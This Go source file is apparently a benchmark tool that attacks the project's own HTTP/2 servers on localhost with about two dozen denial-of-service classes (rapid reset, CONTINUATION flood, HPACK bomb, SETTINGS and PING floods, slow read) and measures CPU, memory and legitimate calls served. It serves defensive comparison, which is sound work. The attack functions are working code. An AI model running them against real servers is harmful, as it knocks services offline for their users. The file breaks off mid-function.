// Command attack runs every known HTTP/2 denial-of-service class against
// switchyard's two HTTP/2 servers — internal/h2 (-http2-server switchyard)
// and net/http's own (-http2-server net/http) — and reports, per class and
// server, the server's CPU time, its memory (RSS) and how many legitimate
// calls it served meanwhile. Same binary, same limits, a fresh process for
// every run, the same offered rate; legitimate calls arrive at a fixed
// rate, each on a new connection. `make attack` runs it; it is a
// comparison, not a test (see BENCHMARKS.md, "Under attack").
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/switchyard/switchyard/bench/internal/proc"
)

func main() {
	bin := flag.String("bin", ".tmp/bench/switchyard", "the switchyard binary")
	dur := flag.Duration("d", 5*time.Second, "attack length per class and server")
	rate := flag.Int("legit-rate", 20, "legitimate calls per second, each on a new connection")
	only := flag.String("only", "", "comma-separated classes to run (default all)")
	maxConns := flag.Int("max-connections", 200, "the servers' -max-connections")
	out := flag.String("o", "", "also write the table as Markdown to this file")
	rounds := flag.Int("rounds", 3, "runs per class and server, the servers' order alternating; the table gives medians")
	flag.Parse()
	var classes []class
	for _, c := range allClasses {
		if *only == "" || slices.Contains(strings.Split(*only, ","), c.name) {
			classes = append(classes, c)
		}
	}
	if err := run(*bin, classes, *rounds, *dur, *rate, *maxConns, *out); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

// class is one denial-of-service class: what the attacker does for d, at
// its fixed offered rate, against addr.
type class struct {
	name, what string
	attack     func(a *attacker)
}

// The classes, with the CVE each answers where there is one. Rates are per
// run and the same for both servers.
var allClasses = []class{
	{"none", "no attack: what the legitimate calls alone cost", func(a *attacker) { <-a.ctx.Done() }},
	{"rapid-reset", "HEADERS then RST_STREAM, 20 000 streams/s on 4 connections (CVE-2023-44487)", rapidReset},
	{"madeyoureset", "HEADERS then a WINDOW_UPDATE of 0 the server must reset, 20 000 streams/s (CVE-2025-8671)", madeYouReset},
	{"continuation-flood", "one header block of endless CONTINUATION frames, 16 MiB/s on 4 connections (CVE-2023-45288)", continuationFlood(false)},
	{"continuation-malformed", "CONTINUATION frames after a malformed field, 16 MiB/s on 4 connections (CVE-2023-45288)", continuationFlood(true)},
	{"hpack-bomb", "header blocks of 1-byte references to a 4 KiB table entry, 2 000 blocks/s", hpackBomb},
	{"settings-flood", "SETTINGS frames, 50 000/s on 4 connections", settingsFlood},
	{"settings-many-entries", "SETTINGS frames of 2 000 INITIAL_WINDOW_SIZE entries, 200 frames/s", settingsManyEntries},
	{"settings-window-flip", "SETTINGS frames of one INITIAL_WINDOW_SIZE entry, alternating between two values, 50 000/s on 4 connections that each hold 100 RouteChat streams open (CVE-2026-78669)", settingsWindowFlip},
	{"header-table-flip", "GetTeam requests, each followed by a SETTINGS_HEADER_TABLE_SIZE alternating between 0 and 4096, 20 000/s on 4 connections, answers read (CVE-2026-97032)", headerTableFlip},
	{"trailer-names", "100 RouteChat streams held open on each of 10 connections, each request declaring 4 000 trailer names (CVE-2026-78659)", trailerNames},
	{"ping-flood", "PING frames, 50 000/s on 4 connections, answers read", pingFlood(true)},
	{"ping-flood-nonreading", "PING frames, 50 000/s on 4 connections that never read", pingFlood(false)},
	{"empty-frames", "empty DATA frames on open streams, 50 000/s (CVE-2019-9518)", emptyFrames},
	{"zero-length-headers", "header blocks of 1 000 empty fields each, 2 000 blocks/s (CVE-2019-9516)", zeroLengthHeaders},
	{"window-update-flood", "WINDOW_UPDATE frames of 1, 50 000/s", windowUpdateFlood},
	{"priority-flood", "PRIORITY frames on idle streams, 50 000/s", priorityFlood},
	{"rst-flood", "frames that make the server reset streams, responses never read, 20 000/s (CVE-2019-9514)", rstFlood},
	{"stream-exhaustion", "every connection's streams held open (RouteChat, never ended), 150 connections", streamExhaustion},
	{"slow-read", "large responses read through 1-byte windows, 100 streams on 20 connections (CVE-2019-9517, CVE-2019-9511)", slowRead},
	{"unsent-bodies", "requests declaring 1 MiB bodies never sent, answered at once (404), 20 000 streams/s on 4 connections", unsentBodies},
	{"backlog-idle", "responses piled up in the server (64 ListFeatures a connection, read after 300 ms through a 4 KiB socket buffer), then the connections held idle, 150 connections", backlogIdle},
	{"body-dribble", "request bodies sent a byte a second, 100 streams on 20 connections", bodyDribble},
	{"no-settings", "500 connections that send the preface and never SETTINGS", noSettings},
	{"connection-flood", "2 000 connections a second that send nothing", connectionFlood},
}

// result of one class against one server.
type result struct {
	cpu        time.Duration // server CPU over the attack
	rss, peak  float64       // MiB, at the end; the process's peak
	served     int           // legitimate calls answered correctly
	offered    int           // legitimate calls made
	attackSent int64         // attacker bytes written
	attackConn int64         // attacker connections opened
}

var servers = []string{"switchyard", "net/http"}

func run(bin string, classes []class, rounds int, d time.Duration, rate, maxConns int, out string) error {
	dir, err := os.MkdirTemp("", "switchyard-attack-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	fmt.Printf("each class %v per server, %d rounds, legitimate calls %d/s on new connections, -max-connections %d\n", d, rounds, rate, maxConns)
	var md bytes.Buffer
	fmt.Fprintf(&md, "| class | server | server CPU s | RSS MiB (peak) | legitimate calls served |\n|---|---|---:|---:|---:|\n")
	for _, c := range classes {
		res := map[string][]result{}
		for round := range rounds {
			order := servers
			if round%2 == 1 {
				order = []string{servers[1], servers[0]}
			}
			for i, srv := range order {
				r, err := runClass(bin, filepath.Join(dir, fmt.Sprintf("%s-%d-%d", c.name, round, i)), srv, c, d, rate, maxConns)
				if err != nil {
					return fmt.Errorf("%s on %s: %w", c.name, srv, err)
				}
				res[srv] = append(res[srv], r)
				fmt.Printf("%-24s %-10s cpu %6.2fs  rss %6.1f MiB (peak %6.1f)  legit %3d/%-3d  attack %s on %d connections\n",
					c.name, srv, r.cpu.Seconds(), r.rss, r.peak, r.served, r.offered, size(r.attackSent), r.attackConn)
			}
		}
		for _, srv := range servers {
			rs := res[srv]
			served, offered := 0, 0
			for _, r := range rs {
				served += r.served
				offered += r.offered
			}
			fmt.Fprintf(&md, "| %s | %s | %.2f | %.1f (%.1f) | %d of %d |\n", c.name, srv,
				median(rs, func(r result) float64 { return r.cpu.Seconds() }),
				median(rs, func(r result) float64 { return r.rss }), median(rs, func(r result) float64 { return r.peak }),
				served, offered)
		}
	}
	fmt.Print("\n" + md.String())
	if out != "" {
		return os.WriteFile(out, md.Bytes(), 0o644)
	}
	return nil
}

// median of f over rs.
func median(rs []result, f func(result) float64) float64 {
	v := make([]float64, len(rs))
	for i, r := range rs {
		v[i] = f(r)
	}
	slices.Sort(v)
	return v[len(v)/2]
}

func size(n int64) string {
	switch {
	case n >= 1<<20:
		return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20))
	case n >= 1<<10:
		return fmt.Sprintf("%.1f KiB", float64(n)/(1<<10))
	}
	return fmt.Sprintf("%d B", n)
}

// runClass starts a fresh server, attacks it for d while legitimate calls
// arrive, and measures.
func runClass(bin, dir, srv string, c class, d time.Duration, rate, maxConns int) (result, error) {
	addr, err := freeAddr()
	if err != nil {
		return result{}, err
	}
	cmd := exec.Command(bin, "-addr", addr, "-http2-server", srv, "-data-dir", dir,
		"-max-connections", strconv.Itoa(maxConns), "-log-level", "error")
	if _, err := exec.LookPath("taskset"); err == nil {
		cmd = exec.Command("taskset", append([]string{"-c", "0", bin}, cmd.Args[1:]...)...)
	}
	if err := cmd.Start(); err != nil {
		return result{}, err
	}
	defer func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}()
	if err := waitListening(addr); err != nil {
		return result{}, err
	}
	pid := cmd.Process.Pid
	if !legitCall(addr) {
		return result{}, fmt.Errorf("the server does not answer before the attack")
	}
	cpu0 := proc.CPUTime(pid)
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	a := &attacker{ctx: ctx, addr: addr}
	done := make(chan struct{})
	go func() { c.attack(a); close(done) }()

	var r result
	var served atomic.Int32
	var wg sync.WaitGroup
	tick := time.NewTicker(time.Second / time.Duration(rate))
	time.Sleep(200 * time.Millisecond) // the attack under way
loop:
	for {
		select {
		case <-ctx.Done():
			break loop
		case <-tick.C:
			r.offered++
			wg.Add(1)
			go func() {
				defer wg.Done()
				if legitCall(addr) {
					served.Add(1)
				}
			}()
		}
	}
	tick.Stop()
	wg.Wait()
	r.cpu = proc.CPUTime(pid) - cpu0
	m := proc.Memory(pid)
	r.rss, r.peak = m.RSS, m.Peak
	a.stop()
	<-done
	r.served = int(served.Load())
	r.attackSent = a.sent.Load()
	r.attackConn = a.dials.Load()
	return r, nil
}

// legitCall is a Connect GetTeam on a new h2c connection, within 2 s.
func legitCall(addr string) bool {
	tr := &http2.Transport{AllowHTTP: true, DialTLSContext: func(ctx context.Context, network, addr string, _ *tls.Config) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}}
	defer tr.CloseIdleConnections()
	client := &http.Client{Transport: tr, Timeout: 2 * time.Second}
	res, err := client.Post("http://"+addr+"/teams.v1.TeamsService/GetTeam", "application/json", strings.NewReader(`{"city":"Chicago"}`))
	if err != nil {
		return false
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	return err == nil && res.StatusCode == 200 && bytes.Contains(body, []byte("Jackals"))
}

// attacker holds what every class shares: the target, the end of the
// attack, the connections to close and the bytes sent.
type attacker struct {
	ctx   context.Context
	addr  string
	sent  atomic.Int64
	dials atomic.Int64
	mu    sync.Mutex
	conns []net.Conn
}

func (a *attacker) stop() {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, c := range a.conns {
		c.Close()
	}
}

// dial opens a raw connection; with h2, sends the preface and an empty
// SETTINGS (plus extra), and reads (and discards) everything the server
// sends unless read is false.
//
// The framer writes into a buffer that flush sends in one write: an
// attacker sends a tick's frames at once, as a real one would, so the
// server reads them in few system calls whatever its speed (frames written
// one by one would make a server that comes back to read sooner pay more
// system calls for the same frames).
func (a *attacker) dial(h2 bool, read bool, extra ...http2.Setting) (nc net.Conn, fr *http2.Framer, flush func() error, err error) {
	nc, err = net.DialTimeout("tcp", a.addr, 2*time.Second)
	if err != nil {
		return nil, nil, nil, err
	}
	a.dials.Add(1)
	a.mu.Lock()
	a.conns = append(a.conns, nc)
	a.mu.Unlock()
	if !read {
		_ = nc.(*net.TCPConn).SetReadBuffer(4 << 10)
	}
	bw := bufio.NewWriterSize(&countingWriter{w: nc, n: &a.sent}, 256<<10)
	fr = http2.NewFramer(bw, nc)
	fr.AllowIllegalWrites = true
	if h2 {
		_, _ = io.WriteString(bw, http2.ClientPreface)
		_ = fr.WriteSettings(extra...)
		if err := bw.Flush(); err != nil {
			return nil, nil, nil, err
		}
	}
	if read {
		go func() { _, _ = io.Copy(io.Discard, nc) }()
	}
	return nc, fr, bw.Flush, nil
}

type countingWriter struct {
	w io.Writer
	n *atomic.Int64
}

func (c *countingWriter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n.Add(int64(n))
	return n, err
}

// paced calls send every tickEvery, perConn connections in parallel,
// redialling when the server closes one, until the attack ends; send gets
// the connection's framer and how many frames to write this tick.
func (a *attacker) paced(conns, perSecond int, read bool, setup func(fr *http2.Framer) error, send func(fr *http2.Framer, n int) error) {
	const ticksPerSecond = 100
	perTick := max(1, perSecond/ticksPerSecond/conns)
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for a.ctx.Err() == nil {
				nc, fr, flush, err := a.dial(true, read)
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				if setup != nil && (setup(fr) != nil || flush() != nil) {
					nc.Close()
					continue
				}
				tick := time.NewTicker(time.Second / ticksPerSecond)
				for a.ctx.Err() == nil {
					<-tick.C
					_ = nc.SetWriteDeadline(time.Now().Add(time.Second))
					if err := send(fr, perTick); err != nil || flush() != nil {
						break
					}
				}
				tick.Stop()
				nc.Close()
			}
		}()
	}
	wg.Wait()
}

// requestBlock is an HPACK block for a request to path, with enc's state.
func requestBlock(enc *hpack.Encoder, buf *bytes.Buffer, method, path, contentType string, extra ...string) []byte {
	buf.Reset()
	for _, kv := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", "attack"}, {":path", path}, {"content-type", contentType}, {"te", "trailers"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	for i := 0; i+1 < len(extra); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: extra[i], Value: extra[i+1]})
	}
	return bytes.Clone(buf.Bytes())
}

// streams hands out client stream IDs of one connection.
type streams struct{ next uint32 }

func (s *streams) id() uint32 {
	if s.next == 0 {
		s.next = 1
	}
	id := s.next
	s.next += 2
	return id
}

func withEncoder(send func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error) func(fr *http2.Framer, n int) error {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	ids := &streams{}
	return func(fr *http2.Framer, n int) error { return send(fr, enc, &buf, ids, n) }
}

// openThen opens GetTeam streams at 20 000 a second over 4 connections
// and follows each stream's HEADERS with the frame then writes.
func openThen(a *attacker, read bool, then func(fr *http2.Framer, id uint32) error) {
	a.paced(4, 20000, read, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
		block := requestBlock(enc, buf, "POST", "/teams.v1.TeamsService/GetTeam", "application/json")
		for range n {
			id := ids.id()
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
				return err
			}
			if err := then(fr, id); err != nil {
				return err
			}
		}
		return nil
	}))
}

func rapidReset(a *attacker) {
	openThen(a, true, func(fr *http2.Framer, id uint32) error { return fr.WriteRSTStream(id, http2.ErrCodeCancel) })
}

// unsentBodies opens streams that declare a body they never send, on a
// path answered at once (no such procedure), so every response ends while
// its body is still owed: internal/h2 keeps such a stream for its late
// reset a while (at most MaxConcurrentStreams a connection), net/http's
// server resets it at once.
func unsentBodies(a *attacker) {
	a.paced(4, 20000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
		block := requestBlock(enc, buf, "POST", "/no.such.v1.Service/Method", "application/grpc", "content-length", "1048576")
		for range n {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: ids.id(), BlockFragment: block, EndHeaders: true}); err != nil {
				return err
			}
		}
		return nil
	}))
}

func madeYouReset(a *attacker) {
	openThen(a, true, func(fr *http2.Framer, id uint32) error {
		return fr.WriteWindowUpdate(id, 0) // a stream error the server answers with RST_STREAM
	})
}

// perConn gives each connection its own HPACK encoder and stream IDs.
func perConn(send func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error) func(fr *http2.Framer, n int) error {
	var mu sync.Mutex
	state := map[*http2.Framer]func(fr *http2.Framer, n int) error{}
	return func(fr *http2.Framer, n int) error {
		mu.Lock()
		f, ok := state[fr]
		if !ok {
			f = withEncoder(send)
			state[fr] = f
		}
		mu.Unlock()
		return f(fr, n)
	}
}

func continuationFlood(malformed bool) func(a *attacker) {
	return func(a *attacker) {
		// 16 MiB/s: 4 connections x 100 ticks x 40 fragments of ~1 KiB.
		a.paced(4, 16000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
			if ids.next == 0 {
				buf.Reset()
				_ = enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
				_ = enc.WriteField(hpack.HeaderField{Name: ":path", Value: "/"})
				if malformed {
					_ = enc.WriteField(hpack.HeaderField{Name: "X-Upper", Value: "malformed"})
				}
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: ids.id(), BlockFragment: bytes.Clone(buf.Bytes())}); err != nil {
					return err
				}
			}
			buf.Reset()
			_ = enc.WriteField(hpack.HeaderField{Name: "x-a", Value: strings.Repeat("a", 1000)})
			frag := bytes.Clone(buf.Bytes())
			for range n {
				if err := fr.WriteContinuation(1, false, frag); err != nil {
					return err
				}
			}
			return nil
		}))
	}
}

func hpackBomb(a *attacker) {
	a.paced(4, 2000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
		big := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)}
		for range n {
			buf.Reset()
			for _, kv := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "attack"}, {":path", "/"}} {
				_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
			}
			for range 1000 { // after the first, a 1-byte index each: ~4 MB decoded
				_ = enc.WriteField(big)
			}
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: ids.id(), BlockFragment: bytes.Clone(buf.Bytes()), EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
		}
		return nil
	}))
}

func settingsFlood(a *attacker) {
	a.paced(4, 50000, true, nil, func(fr *http2.Framer, n int) error {
		for range n {
			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384}); err != nil {
				return err
			}
		}
		return nil
	})
}

func settingsManyEntries(a *attacker) {
	entries := make([]http2.Setting, 2000)
	for i := range entries {
		entries[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i%2)}
	}
	a.paced(2, 200, true, streamsWaitingForWindow, func(fr *http2.Framer, n int) error {
		for range n {
			if err := fr.WriteSettings(entries...); err != nil {
				return err
			}
		}
		return nil
	})
}

// settingsWindowFlip changes SETTINGS_INITIAL_WINDOW_SIZE with every
// frame while a connection's every stream is open: each change applies to
// every stream's send window.
func settingsWindowFlip(a *attacker) {
	a.paced(4, 50000, true, routeChatsHeld(100), func(fr *http2.Framer, n int) error {
		for i := range n {
			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i%2)}); err != nil {
				return err
			}
		}
		return nil
	})
}

// routeChatsHeld opens n RouteChat streams and leaves them open: their
// handlers wait for notes, not for send window.
func routeChatsHeld(n int) func(fr *http2.Framer) error {
	return func(fr *http2.Framer) error {
		var buf bytes.Buffer
		enc := hpack.NewEncoder(&buf)
		block := requestBlock(enc, &buf, "POST", "/routeguide.v1.RouteGuideService/RouteChat", "application/grpc")
		for i := range n {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true}); err != nil {
				return err
			}
		}
		return nil
	}
}

// headerTableFlip asks for responses while it changes the size of the
// server's HPACK encoder table, the encoder those responses use.
func headerTableFlip(a *attacker) {
	msg := getTeamRequest()
	a.paced(4, 20000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
		block := requestBlock(enc, buf, "POST", "/teams.v1.TeamsService/GetTeam", "application/grpc")
		for i := range n {
			id := ids.id()
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
				return err
			}
			if err := fr.WriteData(id, true, msg); err != nil {
				return err
			}
			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(4096 * (i % 2))}); err != nil {
				return err
			}
		}
		return nil
	}))
}

// getTeamRequest is a gRPC message for GetTeam {city: "Chicago"}.
func getTeamRequest() []byte {
	pb := append([]byte{0x0a, 7}, "Chicago"...)
	return append([]byte{0, 0, 0, 0, byte(len(pb))}, pb...)
}

// trailerNames holds streams open whose requests each declare thousands
// of trailer names in one Trailer field (about 27 KiB of the 64 KiB header
// list): a server that makes a map entry of each name holds far more than
// the header block it read, for as long as the stream lives.
func trailerNames(a *attacker) {
	names := make([]string, 4000)
	for i := range names {
		names[i] = fmt.Sprintf("t%04d", i)
	}
	declared := strings.Join(names, ",")
	a.holdOpen(10, 100, true, func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, id uint32) error {
		block := requestBlock(enc, buf, "POST", "/routeguide.v1.RouteGuideService/RouteChat", "application/grpc", "trailer", declared)
		// In frames of at most 16 KiB, the size every server reads.
		const most = 16 << 10
		first := block[:min(len(block), most)]
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(block) <= most}); err != nil {
			return err
		}
		for rest := block[len(first):]; len(rest) > 0; {
			part := rest[:min(len(rest), most)]
			rest = rest[len(part):]
			if err := fr.WriteContinuation(id, len(rest) == 0, part); err != nil {
				return err
			}
		}
		return nil
	}, nil)
}

// streamsWaitingForWindow opens 50 ListFeatures streams on a connection
// with a zero window, so that their handlers wait for send window.
func streamsWaitingForWindow(fr *http2.Framer) error {
	if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	block := requestBlock(enc, &buf, "POST", "/routeguide.v1.RouteGuideService/ListFeatures", "application/grpc")
	msg := listFeaturesRequest()
	for i := range 50 {
		id := uint32(2*i + 1)
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
		if err := fr.WriteData(id, true, msg); err != nil {
			return err
		}
	}
	return nil
}

// listFeaturesRequest is a gRPC message for the whole map:
// lo (-90, -180), hi (90, 180).
func listFeaturesRequest() []byte {
	point := func(field byte, lat, lon int32) []byte {
		p := append([]byte{0x08}, varint(uint64(uint32(lat)))...)
		p = append(p, 0x10)
		p = append(p, varint(uint64(uint32(lon)))...)
		return append([]byte{field<<3 | 2, byte(len(p))}, p...)
	}
	msg := append(point(1, -900000000, -1800000000), point(2, 900000000, 1800000000)...)
	return append([]byte{0, 0, 0, 0, byte(len(msg))}, msg...)
}

func varint(v uint64) []byte {
	var b []byte
	for v >= 0x80 {
		b = append(b, byte(v)|0x80)
		v >>= 7
	}
	return append(b, byte(v))
}

func pingFlood(read bool) func(a *attacker) {
	return func(a *attacker) {
		a.paced(4, 50000, read, nil, func(fr *http2.Framer, n int) error {
			for range n {
				if err := fr.WritePing(false, [8]byte{'a', 't', 't', 'a', 'c', 'k'}); err != nil {
					return err
				}
			}
			return nil
		})
	}
}

func emptyFrames(a *attacker) {
	a.paced(4, 50000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
		if ids.next == 0 {
			block := requestBlock(enc, buf, "POST", "/routeguide.v1.RouteGuideService/RecordRoute", "application/grpc")
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: ids.id(), BlockFragment: block, EndHeaders: true}); err != nil {
				return err
			}
		}
		for range n {
			if err := fr.WriteData(1, false, nil); err != nil {
				return err
			}
		}
		return nil
	}))
}

func zeroLengthHeaders(a *attacker) {
	a.paced(4, 2000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
		for range n {
			buf.Reset()
			for _, kv := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "attack"}, {":path", "/"}} {
				_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
			}
			for range 1000 {
				_ = enc.WriteField(hpack.HeaderField{Name: "", Value: ""})
			}
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: ids.id(), BlockFragment: bytes.Clone(buf.Bytes()), EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
		}
		return nil
	}))
}

func windowUpdateFlood(a *attacker) {
	a.paced(4, 50000, true, nil, func(fr *http2.Framer, n int) error {
		for range n {
			if err := fr.WriteWindowUpdate(0, 1); err != nil {
				return err
			}
		}
		return nil
	})
}

func priorityFlood(a *attacker) {
	a.paced(4, 50000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
		for range n {
			id := ids.id()
			if err := fr.WritePriority(id, http2.PriorityParam{StreamDep: id + 2, Weight: 10}); err != nil {
				return err
			}
		}
		return nil
	}))
}

func rstFlood(a *attacker) {
	openThen(a, false, func(fr *http2.Framer, id uint32) error {
		return fr.WritePriority(id, http2.PriorityParam{StreamDep: id}) // self-dependency: RST_STREAM
	})
}

// holdOpen opens as many streams as conns x perConn on conns connections,
// sends what open(fr, id) writes on each, and holds them until the end,
// calling every tick(fr, id) once a second.
func (a *attacker) holdOpen(conns, perConn int, read bool, open func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, id uint32) error, tick func(fr *http2.Framer, id uint32) error) {
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for a.ctx.Err() == nil {
				nc, fr, flush, err := a.dial(true, read, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
				if err != nil {
					time.Sleep(50 * time.Millisecond)
					continue
				}
				var buf bytes.Buffer
				enc := hpack.NewEncoder(&buf)
				ok := true
				for i := range perConn {
					if open(fr, enc, &buf, uint32(2*i+1)) != nil {
						ok = false
						break
					}
				}
				ok = ok && flush() == nil
				for ok && a.ctx.Err() == nil {
					select {
					case <-a.ctx.Done():
					case <-time.After(time.Second):
					}
					_ = nc.SetWriteDeadline(time.Now().Add(time.Second))
					for i := range perConn {
						if tick != nil && tick(fr, uint32(2*i+1)) != nil {
							ok = false
							break
						}
					}
					ok = ok && flush() == nil
				}
				nc.Close()
			}
		}()
	}
	wg.Wait()
}

func streamExhaustion(a *attacker) {
	a.holdOpen(150, 100, true, func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, id uint32) error {
		block := requestBlock(enc, buf, "POST", "/routeguide.v1.RouteGuideService/RouteChat", "application/grpc")
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
	}, nil)
}

func slowRead(a *attacker) {
	msg := listFeaturesRequest()
	a.holdOpen(20, 5, true, func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, id uint32) error {
		block := requestBlock(enc, buf, "POST", "/routeguide.v1.RouteGuideService/ListFeatures", "application/grpc")
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteData(id, true, msg)
	}, func(fr *http2.Framer, id uint32) error {
		if err := fr.WriteWindowUpdate(id, 1); err != nil { // a byte at a time
			return err
		}
		return fr.WriteWindowUpdate(0, 1)
	})
}

// backlogIdle opens connections whose responses pile up in the server:
// windows wide open, 64 ListFeatures calls (about 400 KiB of answers)
// asked at once, and nothing read for 300 ms through a 4 KiB socket
// buffer. Then each connection reads everything and stays open, idle,
// until the attack ends: what a server keeps of a drained backlog shows
// in its RSS at the end.
func backlogIdle(a *attacker) {
	msg := listFeaturesRequest()
	var wg sync.WaitGroup
	for range 150 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			nc, fr, flush, err := a.dial(true, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
			if err != nil {
				return
			}
			_ = fr.WriteWindowUpdate(0, 1<<30)
			var buf bytes.Buffer
			enc := hpack.NewEncoder(&buf)
			for i := range 64 {
				id := uint32(2*i + 1)
				block := requestBlock(enc, &buf, "POST", "/routeguide.v1.RouteGuideService/ListFeatures", "application/grpc")
				_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
				_ = fr.WriteData(id, true, msg)
			}
			if flush() != nil {
				return
			}
			select {
			case <-a.ctx.Done():
				return
			case <-time.After(300 * time.Millisecond):
			}
			_, _ = io.Copy(io.Discard, nc) // until the attack closes it
		}()
	}
	<-a.ctx.Done()
	a.stop()
	wg.Wait()
}

func bodyDribble(a *attacker) {
	a.holdOpen(20, 5, true, func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, id uint32) error {
		block := requestBlock(enc, buf, "POST", "/routeguide.v1.RouteGuideService/RecordRoute", "application/grpc")
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteData(id, false, []byte{0, 0, 0, 0x10, 0}) // a message prefix: 4 KiB to come
	}, func(fr *http2.Framer, id uint32) error {
		return fr.WriteData(id, false, []byte{0x08})
	})
}

func noSettings(a *attacker) {
	var wg sync.WaitGroup
	for range 500 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for a.ctx.Err() == nil {
				nc, _, _, err := a.dial(false, false)
				if err != nil {
					time.Sleep(50 * time.Millisecond)
					continue
				}
				_, _ = io.WriteString(&countingWriter{w: nc, n: &a.sent}, http2.ClientPreface)
				buf := make([]byte, 512)
				for { // until the server closes it, or the attack ends
					if _, err := nc.Read(buf); err != nil {
						break
					}
				}
				nc.Close()
			}
		}()
	}
	<-a.ctx.Done()
	a.stop()
	wg.Wait()
}

func connectionFlood(a *attacker) {
	tick := time.NewTicker(time.Second / 100)
	defer tick.Stop()
	for a.ctx.Err() == nil {
		<-tick.C
		for range 20 {
			go func() {
				nc, err := net.DialTimeout("tcp", a.addr, time.Second)
				if err != nil {
					return
				}
				a.mu.Lock()
				a.conns = append(a.conns, nc)
				a.mu.Unlock()
			}()
		}
	}
}

func freeAddr() (string, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", err
	}
	defer ln.Close()
	return ln.Addr().String(), nil
}

func waitListening(addr string) error {
	for range 200 {
		if c, err := net.Dial("tcp", addr); err == nil {
			c.Close()
			return nil
		}
		time.Sleep(50 * time.Millisecond)
	}
